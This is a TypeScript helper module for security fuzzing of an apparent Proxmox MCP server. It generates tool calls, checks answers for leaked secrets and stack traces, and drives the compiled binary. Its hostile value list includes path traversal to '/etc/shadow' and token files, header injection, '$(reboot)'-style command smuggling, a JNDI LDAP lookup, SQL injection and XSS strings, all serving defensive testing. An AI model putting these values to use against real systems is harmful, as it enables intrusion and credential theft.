// Plumbing shared by the security tests: a seeded PRNG, the hostile values, the checks
// every answer must pass, an in-process registry aimed at the simulator, and the compiled
// binary behind an MCP client whose process we can watch (pid, memory, liveness).
import { readFileSync } from "node:fs";
import type { Client } from "@modelcontextprotocol/client";
import { toJsonSchema } from "@valibot/to-json-schema";
import type { Config } from "../../src/config/env.ts";
import { createLogger } from "../../src/log.ts";
import { PveClient } from "../../src/pve/client.ts";
import { prng } from "../../src/sim/cluster.ts";
import type { Simulator } from "../../src/sim/index.ts";
import { createAudit } from "../../src/security/audit.ts";
import { Redactor } from "../../src/security/redactor.ts";
import { ALL_TOOLS } from "../../src/tools/index.ts";
import { ToolRegistry } from "../../src/tools/registry.ts";
import type { AnyTool } from "../../src/tools/types.ts";
import { BINARY, connectMcp } from "../helpers/harness.ts";
import { testConfig } from "../helpers/runtime.ts";

// ---------------------------------------------------------------------------------------
// Seeded randomness

export class Rng {
  private readonly next: () => number;
  constructor(readonly seed: number) {
    this.next = prng(seed); // mulberry32, as the simulator uses
  }
  float(): number {
    return this.next();
  }
  /** An integer in [lo, hi], both included. */
  int(lo: number, hi: number): number {
    return lo + Math.floor(this.next() * (hi - lo + 1));
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
  pick<T>(items: readonly T[]): T {
    if (items.length === 0) throw new Error("pick from an empty list");
    return items[Math.floor(this.next() * items.length)] as T;
  }
  /** A child generator: streams that must not shift when another stream draws more. */
  fork(salt: number): Rng {
    return new Rng((Math.imul(this.seed ^ salt, 0x9e3779b1) + salt) >>> 0);
  }
}

/** The seed: FUZZ_SEED when given (to replay a failure), else a fresh one. Always printed. */
export function seedFromEnv(label: string): number {
  const given = process.env.FUZZ_SEED?.trim();
  const seed = given ? Number(given) >>> 0 : (Date.now() ^ (process.pid << 16)) >>> 0;
  console.log(`${label}: seed ${seed} (replay with FUZZ_SEED=${seed})`);
  return seed;
}

// ---------------------------------------------------------------------------------------
// The secret, and what no answer may contain

/** UUID-shaped, like a real PVE token secret, and easy to spot. */
export const SECRET = "5ec7e7aa-c0de-4bad-9f00-d15c105ed0ff";
export const TOKEN_ID = "root@pam!mcp";

/** The secret and the pieces of it that would still be a leak: any 12 characters in a row. */
export function secretForms(secret: string): string[] {
  const forms = new Set([secret, encodeURIComponent(secret)]);
  for (let i = 0; i + 12 <= secret.length; i++) forms.add(secret.slice(i, i + 12));
  return [...forms];
}

export function findSecret(text: string, secret: string): string | undefined {
  for (const form of secretForms(secret)) {
    const at = text.indexOf(form);
    if (at >= 0) return `…${text.slice(Math.max(0, at - 60), at + form.length + 20)}…`;
  }
  return undefined;
}

// A stack frame ("    at fn (file:1:2)") or a source path of ours. The hostile inputs below
// contain none of these, so any match was written by the server itself.
const STACK_FRAME = /^\s+at\s+\S|\bat\s+\S+\s+\([^)]*:\d+:\d+\)|\bat\s+(file:\/\/|\/)\S+:\d+:\d+/m;
const SOURCE_PATH = /\/src\/\S+\.ts|\.ts:\d+:\d+|node_modules\/|\$bunfs|file:\/\/\//;

/** Why this answer text is not fit to show a model, or undefined when it is. */
export function answerProblem(text: string, secret: string): string | undefined {
  const leak = findSecret(text, secret);
  if (leak) return `the secret appears: ${leak}`;
  const frame = STACK_FRAME.exec(text);
  if (frame) return `a stack frame appears: ${JSON.stringify(text.slice(Math.max(0, frame.index - 80), frame.index + 120))}`;
  const path = SOURCE_PATH.exec(text);
  if (path) return `a source path appears: ${JSON.stringify(text.slice(Math.max(0, path.index - 80), path.index + 80))}`;
  return undefined;
}

// ---------------------------------------------------------------------------------------
// Hostile values

const deep = (depth: number): unknown => {
  let value: unknown = "bottom";
  for (let i = 0; i < depth; i++) value = i % 2 ? [value] : { nested: value };
  return value;
};

/** Every kind of value a confused or hostile model could put in a parameter. */
export function hostileValues(secret: string): readonly unknown[] {
  return [
    // path traversal and segment smuggling
    "../../access/users",
    "..%2f..%2faccess%2fusers",
    "%2e%2e",
    "%2e%2e%2f%2e%2e%2faccess",
    "..",
    ".",
    "/",
    "pve1/qemu",
    "pve1/../../access/users",
    "pve1%2Fqemu%2F100",
    "..\\..\\access",
    "local:iso/../../../etc/shadow",
    "local:backup/../../../../etc/pve/priv/token.cfg",
    "UPID:pve1:../../access/users:",
    "UPID:pve1:0000C346:165A0CE4:68D7279C:qmstart:100:root@pam:/../../access",
    // control characters and header injection
    "pve1\u0000",
    "\u0000",
    "pve1\nHost: evil.example",
    "pve1\r\nX-Injected: 1",
    "a\r\n\r\nGET /api2/json/access/users HTTP/1.1\r\nHost: x",
    "\t",
    "\u007f",
    "\u001b[31mred",
    // sizes
    "x".repeat(10_000),
    "A".repeat(10_241),
    "é".repeat(5_000),
    "../".repeat(3_000),
    "",
    " ",
    // unicode
    "ｐｖｅ１",
    "pve1\u200b",
    "\u202epve1",
    "\ufeffpve1",
    "🔥💥",
    "\ud800",
    "Ω≈ç√∫",
    // numbers and literals written as strings
    "100",
    "0100",
    "1e3",
    "0x64",
    "-1",
    "1.5",
    "NaN",
    "Infinity",
    "-Infinity",
    "1e309",
    "+100",
    " 100",
    "9007199254740993",
    "true",
    "false",
    "null",
    "undefined",
    "yes",
    "[]",
    "{}",
    // injection shapes
    "<script>alert(1)</script>",
    "'; DROP TABLE guests;--",
    "${jndi:ldap://example.invalid/a}",
    "{{guestname}}",
    "%s%s%s%n",
    "$(reboot)",
    "`reboot`",
    "pve1;reboot",
    "pve1&vmid=100",
    "pve1?x=1",
    "pve1#frag",
    "confirm=1&destructive=1",
    // prototype words
    "__proto__",
    "constructor",
    "prototype",
    "hasOwnProperty",
    // the secret itself, and shapes a redactor must recognise
    secret,
    `PVEAPIToken=${TOKEN_ID}=${secret}`,
    `Authorization: PVEAPIToken=${TOKEN_ID}=${secret}`,
    // numbers
    0,
    -0,
    -1,
    1,
    1.5,
    99,
    99.999,
    100.0000001,
    999_999_999,
    1_000_000_000,
    2 ** 31,
    2 ** 53,
    2 ** 53 + 2,
    Number.MAX_VALUE,
    -Number.MAX_VALUE,
    Number.MIN_VALUE,
    1e21,
    Number.NaN,
    Number.POSITIVE_INFINITY,
    Number.NEGATIVE_INFINITY,
    // other types
    null,
    undefined,
    true,
    false,
    [],
    [100],
    ["pve1"],
    [null],
    [[[]]],
    {},
    { vmid: 100 },
    JSON.parse('{"__proto__": {"polluted": "yes"}}'),
    JSON.parse('{"constructor": {"prototype": {"polluted": "yes"}}}'),
    deep(200),
    new Array(1_000).fill("x"),
  ];
}

/**
 * Fragments spliced into otherwise valid values ("pve1" → "pv/e1", a UPID with a NUL in a
 * field), which whole-value hostile strings never produce.
 * Left out until fixed: a lone surrogate ("\ud800"). encodeURIComponent throws on one, in
 * buildPath (a UPID carrying one passes the UPID format: internal error) and in
 * Redactor.register (a password/secret/token-named argument: the call throws). Both have
 * todo tests in fuzz.test.ts. (The whole-value "\ud800" above is too short to be registered
 * and matches no identifier format, so it stays.)
 */
export const FRAGMENTS = ["/", "..", "../", "%2e%2e", "%2F", "\u0000", "\n", "\r\n", " ", ":", "?", "#", "&", "=", ";", "\\", "é", "\u202e", "\u200b", "🔥", "'", '"', "<", ">", "{{", "$(", "`", "%", "\t"] as const;

/** A valid value with a hostile fragment inserted or substituted at a random place. */
export function splice(rng: Rng, valid: string): string {
  const at = rng.int(0, valid.length);
  const fragment = rng.pick(FRAGMENTS);
  return rng.chance(0.5) ? `${valid.slice(0, at)}${fragment}${valid.slice(at)}` : `${valid.slice(0, at)}${fragment}${valid.slice(at + 1)}`;
}

/** Keys a model might add: typos, prototype keys, gate look-alikes, credentials. */
export const EXTRA_KEYS = [
  "vm_id",
  "extra",
  "__proto__",
  "constructor",
  "prototype",
  "confirm ",
  "CONFIRM",
  "Destructive",
  "destructive\u0000",
  "force",
  "instance",
  "node\r\nX-Injected",
  "password",
  "token",
  "x".repeat(300),
] as const;

/** Values the gates must not take for consent. */
export const NOT_CONSENT = ["true", 1, "1", "yes", false, 0, null, {}, [true], { value: true }] as const;

/** Sets a key as an own property, as JSON.parse would (so "__proto__" is data, not a prototype). */
export function setOwn(target: Record<string, unknown>, key: string, value: unknown): void {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}

// ---------------------------------------------------------------------------------------
// Tool schemas as clients see them

export interface PropSchema {
  type?: string;
  enum?: unknown[];
  const?: unknown;
  pattern?: string;
  maxLength?: number;
  minLength?: number;
  minimum?: number;
  maximum?: number;
}

export interface ToolShape {
  tool: AnyTool;
  properties: Record<string, PropSchema>;
  required: string[];
}

/** Each tool's JSON input schema (the registry's, with the tier's gate flags). */
export function toolShapes(registry: ToolRegistry): ToolShape[] {
  return ALL_TOOLS.map((tool) => {
    const schema = toJsonSchema(registry.inputSchema(tool), { errorMode: "ignore" }) as { properties?: Record<string, PropSchema>; required?: string[] };
    return { tool, properties: schema.properties ?? {}, required: schema.required ?? [] };
  });
}

// ---------------------------------------------------------------------------------------
// Valid-looking values, so a share of the cases gets past validation into the handlers

export interface ValidPool {
  vmids: number[];
  upids: string[];
  strings: string[];
}

export function validPool(sim: Simulator): ValidPool {
  const vmids = [...sim.state.guests.keys()];
  const upids = sim.tasks.tasks.slice(0, 40).map((t) => t.upid);
  upids.push("UPID:pve1:0000C346:165A0CE4:68D7279C:qmstart:100:root@pam:");
  const strings = [
    "pve1",
    "pve2",
    "pve3",
    "pve9",
    "local",
    "local-lvm",
    "nas-backup",
    "nosuch-store",
    "before-php84",
    "fuzz-snap",
    "Before-Upgrade",
    "web-01",
    "fuzz-01",
    "vmbr0",
    "dhcp",
    "192.168.1.50/24",
    "192.168.1.1",
    "fuzz-pass-0451",
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFuzzFuzzFuzzFuzzFuzzFuzzFuzzFuzzFuzzFuzz fuzz@test",
    "local:vztmpl/debian-12-standard_12.7-1_amd64.tar.zst",
    "local:iso/debian-13.1.0-amd64-netinst.iso",
    "nightly backup of {{guestname}}",
    "qmstart",
    "vzdump",
    "prod",
    "web",
    // proxmox_api paths: reads, a write and a refused endpoint.
    "/cluster/resources",
    "/nodes/pve1/qemu/100/firewall/rules",
    "/pools",
    "/nodes/pve1/qemu/100/termproxy",
    // day-2 tools: disks as PVE names them, sizes, URLs, checksums
    "scsi0",
    "rootfs",
    "+2G",
    "64G",
    "https://198.51.100.7/images/noble.qcow2",
    "noble.qcow2",
    `sha256:${"ab".repeat(32)}`,
  ];
  return { vmids, upids, strings };
}

/** A value that fits the property's JSON schema, or (when none fits) one that looks close. */
export function validValue(rng: Rng, name: string, prop: PropSchema, pool: ValidPool): unknown {
  if (prop.const !== undefined) return prop.const;
  if (prop.enum) return rng.pick(prop.enum);
  if (prop.type === "boolean") return name === "wait" ? rng.chance(0.2) : rng.chance(0.5);
  if (prop.type === "integer" || prop.type === "number") {
    const lo = prop.minimum ?? 0;
    const hi = prop.maximum ?? 1_000_000;
    if (/vmid|newid/.test(name)) return rng.chance(0.85) ? rng.pick(pool.vmids) : rng.int(lo, Math.min(hi, 99_999));
    // Waits stay short so the run stays fast; every task in the simulator ends quickly.
    if (/wait_timeout_s|timeout_s/.test(name)) return rng.int(1, 2);
    if (name === "timeout") return rng.int(0, 5);
    const r = rng.float();
    if (r < 0.15) return lo;
    if (r < 0.3) return hi;
    return rng.int(lo, Math.min(hi, lo + 64));
  }
  if (name === "upid") return rng.pick(pool.upids);
  if (name === "password") return `fuzz-pass-${rng.int(1000, 9999)}`;
  const pattern = safeRegExp(prop.pattern);
  const fits = pool.strings.filter((s) => (!pattern || pattern.test(s)) && (prop.maxLength === undefined || s.length <= prop.maxLength) && (prop.minLength === undefined || s.length >= prop.minLength));
  return fits.length > 0 ? rng.pick(fits) : rng.pick(pool.strings);
}

function safeRegExp(source: string | undefined): RegExp | undefined {
  if (!source) return undefined;
  try {
    return new RegExp(source, "i");
  } catch {
    return undefined;
  }
}

// ---------------------------------------------------------------------------------------
// One generated call

export interface Case {
  tool: string;
  tier: number;
  args: unknown;
}

/**
 * Arguments for one call: mostly valid-looking values, with hostile values thrown at some
 * parameters, sometimes unknown keys, and the gates present, absent or faked.
 */
export function generateCase(rng: Rng, shape: ToolShape, pool: ValidPool, hostile: readonly unknown[], cleanShare = 0.35): Case {
  const { tool } = shape;
  // A few calls whose arguments are not an object at all.
  if (rng.chance(0.02)) return { tool: tool.name, tier: tool.tier, args: rng.pick([null, [], [1, 2], "vmid=100", 42, true]) };
  const args: Record<string, unknown> = {};
  const names = Object.keys(shape.properties).filter((n) => n !== "confirm" && n !== "destructive");
  // A share of the cases (a third by default) are clean, valid-looking values only: they
  // reach the handlers and the real writes. The rest carry hostile values.
  const clean = rng.chance(cleanShare);
  const hostileFor = (name: string): unknown => {
    // A third of the hostile values are valid ones with a fragment spliced in.
    if (rng.chance(0.33)) {
      const valid = validValue(rng, name, shape.properties[name] as PropSchema, pool);
      if (typeof valid === "string" && valid.length > 0) return splice(rng, valid);
    }
    return rng.pick(hostile);
  };
  for (const name of names) {
    const prop = shape.properties[name] as PropSchema;
    const required = shape.required.includes(name);
    const r = rng.float();
    if (required ? r < 0.9 || clean : r < 0.35) setOwn(args, name, validValue(rng, name, prop, pool));
    else if (!clean && (required || r < 0.5)) setOwn(args, name, hostileFor(name));
  }
  // Aim hostile values at one to three parameters in most of the other cases.
  if (!clean && names.length > 0 && rng.chance(0.7)) {
    for (let i = rng.int(1, 3); i > 0; i--) {
      const name = rng.pick(names);
      setOwn(args, name, hostileFor(name));
    }
  }
  if (!clean && rng.chance(0.1)) {
    for (let i = rng.int(1, 2); i > 0; i--) setOwn(args, rng.pick(EXTRA_KEYS), rng.chance(0.5) ? rng.pick(hostile) : rng.pick(pool.strings));
  }
  const gate = (): unknown => {
    const r = rng.float();
    return r < (clean ? 0.85 : 0.6) ? true : r < 0.92 ? undefined : rng.pick(NOT_CONSENT);
  };
  if (tool.tier > 1 || rng.chance(0.1)) {
    const confirm = gate();
    if (confirm !== undefined) setOwn(args, "confirm", confirm);
  }
  if (tool.tier > 2 || rng.chance(0.05)) {
    const destructive = gate();
    if (destructive !== undefined) setOwn(args, "destructive", destructive);
  }
  // A tool whose tier follows its arguments (proxmox_api) is judged by the tier of this call.
  return { tool: tool.name, tier: tool.tierFor ? tool.tierFor(args) : tool.tier, args };
}

/** A printable summary of a case's arguments (long strings shortened). */
export function describeArgs(args: unknown): string {
  try {
    const text = JSON.stringify(args, (_k, value) => (typeof value === "string" && value.length > 60 ? `${value.slice(0, 40)}…(${value.length} chars)` : typeof value === "number" && !Number.isFinite(value) ? String(value) : value));
    return (text ?? String(args)).slice(0, 600);
  } catch {
    return String(args);
  }
}

/** A dry run with its tier's other gates: it may look things up, never write, and answers a plan. */
export function dryRunGated(c: Case): boolean {
  const args = c.args as Record<string, unknown> | null;
  if (!args || typeof args !== "object" || Array.isArray(args)) return false;
  return args.dry_run === true && (c.tier < 3 || args.destructive === true);
}

/** Did the model give consent for a write, exactly as the gates demand? */
export function consented(c: Case): boolean {
  const args = c.args as Record<string, unknown> | null;
  if (!args || typeof args !== "object" || Array.isArray(args)) return false;
  return args.confirm === true && (c.tier < 3 || args.destructive === true);
}

// ---------------------------------------------------------------------------------------
// The real registry in this process, its one client aimed at the simulator

export interface SeenRequest {
  method: string;
  url: string;
}

export interface InProcess {
  registry: ToolRegistry;
  /** Every request this registry's client sent, in order. */
  requests: SeenRequest[];
  /** Every line the logger wrote (what stderr would show). */
  logs: string[];
}

/**
 * The registry exactly as the server builds it, with destructive tools enabled so the
 * gates do not hide the deeper code paths, and a client that records what it sends.
 */
export function inProcessRegistry(sim: Simulator, overrides: Partial<Config> = {}): InProcess {
  const config = testConfig({ url: sim.url, tokenId: sim.tokenId, tokenSecret: sim.tokenSecret, destructiveEnabled: true, logLevel: "debug", timeoutMs: 5_000, ...overrides });
  const redactor = new Redactor();
  redactor.register(config.tokenSecret);
  const logs: string[] = [];
  const log = createLogger(redactor, config.logLevel, (line) => logs.push(line));
  const requests: SeenRequest[] = [];
  const fetchImpl = ((input: RequestInfo | URL, init?: RequestInit) => {
    requests.push({ method: init?.method ?? "GET", url: String(input) });
    return fetch(input, init);
  }) as typeof fetch;
  const pve = new PveClient({
    baseUrl: config.url,
    tokenId: config.tokenId,
    tokenSecret: config.tokenSecret,
    timeoutMs: config.timeoutMs,
    tls: config.tls,
    logger: log,
    fetchImpl,
    retry: { attempts: 2, baseDelayMs: 1, maxDelayMs: 2 },
  });
  const registry = new ToolRegistry(ALL_TOOLS, { instances: [{ name: config.name, config, pve }], log, redactor, audit: createAudit(redactor, log) });
  return { registry, requests, logs };
}

// ---------------------------------------------------------------------------------------
// The compiled binary behind a real MCP client

export interface Served {
  client: Client;
  pid: number;
  stderr(): string;
  alive(): boolean;
  /** Resident memory of the server process, in kB (from /proc/<pid>/status). */
  rssKb(): number;
  close(): Promise<void>;
}

export async function serveBinary(env: Record<string, string>): Promise<Served> {
  const session = await connectMcp(env);
  const { pid } = session;
  if (pid < 0) throw new Error("the server process did not start");
  return {
    ...session,
    alive: () => {
      try {
        process.kill(pid, 0);
        return true;
      } catch {
        return false;
      }
    },
    rssKb: () => rssKb(pid),
  };
}

export function rssKb(pid: number): number {
  const status = readFileSync(`/proc/${pid}/status`, "utf8");
  const m = /^VmRSS:\s+(\d+)\s+kB/m.exec(status);
  if (!m) throw new Error(`no VmRSS for ${pid}`);
  return Number(m[1]);
}

export interface McpAnswer {
  /** A tool result (isError or not), or a JSON-RPC error the client threw. */
  kind: "result" | "rpc-error";
  isError: boolean;
  text: string;
  structured?: unknown;
}

/** Calls a tool and returns whatever came back, a JSON-RPC error included, as text. */
export async function callAny(client: Client, name: string, args: unknown, timeoutMs = 30_000): Promise<McpAnswer> {
  try {
    const result = (await client.callTool({ name, arguments: args as Record<string, unknown> }, { timeout: timeoutMs })) as {
      isError?: boolean;
      content?: { type: string; text?: string; uri?: string; name?: string }[];
      structuredContent?: unknown;
    };
    const text = (result.content ?? []).map((c) => c.text ?? `${c.uri ?? ""} ${c.name ?? ""}`).join("\n");
    return { kind: "result", isError: result.isError === true, text, structured: result.structuredContent };
  } catch (error) {
    const e = error as { message?: string; code?: unknown; data?: unknown };
    return { kind: "rpc-error", isError: true, text: `${e.code ?? ""} ${e.message ?? String(error)} ${e.data === undefined ? "" : JSON.stringify(e.data)}` };
  }
}

/** Runs fn over items with at most `width` in flight. */
export async function pool<T>(items: readonly T[], width: number, fn: (item: T, lane: number) => Promise<void>): Promise<void> {
  let next = 0;
  await Promise.all(
    Array.from({ length: Math.min(width, items.length) }, async (_, lane) => {
      while (next < items.length) {
        const item = items[next++] as T;
        await fn(item, lane);
      }
    }),
  );
}

// ---------------------------------------------------------------------------------------
// The compiled binary over raw stdio: every byte it writes, read line by line

export type JsonRpcMessage = { jsonrpc?: string; id?: unknown; method?: string; result?: Record<string, unknown>; error?: { code: number; message: string }; params?: Record<string, unknown> };

export interface RawServer {
  pid: number;
  /** Writes text to the server's stdin; false once the pipe is gone (the server exited). */
  write(text: string | Uint8Array): Promise<boolean>;
  send(message: unknown): Promise<boolean>;
  /** Sends a request with a fresh id and waits for the answer with that id. */
  request(method: string, params?: Record<string, unknown>, timeoutMs?: number): Promise<JsonRpcMessage>;
  /** initialize + notifications/initialized (2025-11-25). */
  initialize(): Promise<JsonRpcMessage>;
  /** Every complete stdout line so far, parsed (unparseable lines are kept as { unparsed }). */
  lines(): (JsonRpcMessage & { unparsed?: string })[];
  stdout(): string;
  stderr(): string;
  closeStdin(): Promise<void>;
  /** The exit code, or null while it runs. */
  exitCode(): number | null;
  exited: Promise<number>;
  kill(): void;
}

export function spawnRaw(env: Record<string, string>, args: string[] = []): RawServer {
  const proc = Bun.spawn([BINARY, ...args], { env, stdin: "pipe", stdout: "pipe", stderr: "pipe" });
  let out = "";
  let err = "";
  const parsed: (JsonRpcMessage & { unparsed?: string })[] = [];
  const waiters = new Map<string, (m: JsonRpcMessage) => void>();
  let consumed = 0;
  const drain = async (stream: ReadableStream<Uint8Array>, onText: (t: string) => void) => {
    const decoder = new TextDecoder();
    for await (const chunk of stream) onText(decoder.decode(chunk, { stream: true }));
  };
  const stdoutDone = drain(proc.stdout, (t) => {
    out += t;
    let nl = out.indexOf("\n", consumed);
    while (nl >= 0) {
      const line = out.slice(consumed, nl);
      consumed = nl + 1;
      if (line.trim()) {
        let message: JsonRpcMessage & { unparsed?: string };
        try {
          message = JSON.parse(line);
        } catch {
          message = { unparsed: line };
        }
        parsed.push(message);
        const key = JSON.stringify(message.id ?? null);
        if (message.id !== undefined && (message.result !== undefined || message.error !== undefined)) waiters.get(key)?.(message);
      }
      nl = out.indexOf("\n", consumed);
    }
  });
  const stderrDone = drain(proc.stderr, (t) => {
    err += t;
  });
  let nextId = 1000;
  const write = async (text: string | Uint8Array) => {
    if (proc.exitCode !== null) return false;
    try {
      proc.stdin.write(text);
      await proc.stdin.flush();
      return true;
    } catch {
      return false;
    }
  };
  const send = (message: unknown) => write(`${JSON.stringify(message)}\n`);
  const request = (method: string, params?: Record<string, unknown>, timeoutMs = 15_000) => {
    const id = nextId++;
    return new Promise<JsonRpcMessage>((resolve, reject) => {
      const timer = setTimeout(() => {
        waiters.delete(String(id));
        reject(new Error(`no answer to ${method} (id ${id}) within ${timeoutMs} ms; stderr:\n${err.slice(-1500)}`));
      }, timeoutMs);
      waiters.set(String(id), (m) => {
        clearTimeout(timer);
        waiters.delete(String(id));
        resolve(m);
      });
      void send({ jsonrpc: "2.0", id, method, ...(params ? { params } : {}) });
    });
  };
  const exited = proc.exited.then(async (code) => {
    await Promise.allSettled([stdoutDone, stderrDone]);
    return code;
  });
  return {
    pid: proc.pid,
    write,
    send,
    request,
    initialize: async () => {
      const answer = await request("initialize", { protocolVersion: "2025-11-25", capabilities: {}, clientInfo: { name: "raw-security-test", version: "1.0.0" } });
      await send({ jsonrpc: "2.0", method: "notifications/initialized" });
      return answer;
    },
    lines: () => parsed,
    stdout: () => out,
    stderr: () => err,
    closeStdin: async () => {
      try {
        await proc.stdin.end();
      } catch {
        // already gone
      }
    },
    exitCode: () => proc.exitCode,
    exited,
    kill: () => proc.kill(),
  };
}

/** A tool call over raw JSON-RPC; the answer's text content, or the JSON-RPC error. */
export async function rawCall(server: RawServer, name: string, args: Record<string, unknown> = {}, meta?: Record<string, unknown>): Promise<{ isError: boolean; text: string; message: JsonRpcMessage }> {
  const message = await server.request("tools/call", { name, arguments: args, ...(meta ? { _meta: meta } : {}) });
  if (message.error) return { isError: true, text: `${message.error.code} ${message.error.message}`, message };
  const result = message.result as { isError?: boolean; content?: { text?: string }[] };
  return { isError: result.isError === true, text: (result.content ?? []).map((c) => c.text ?? "").join("\n"), message };
}
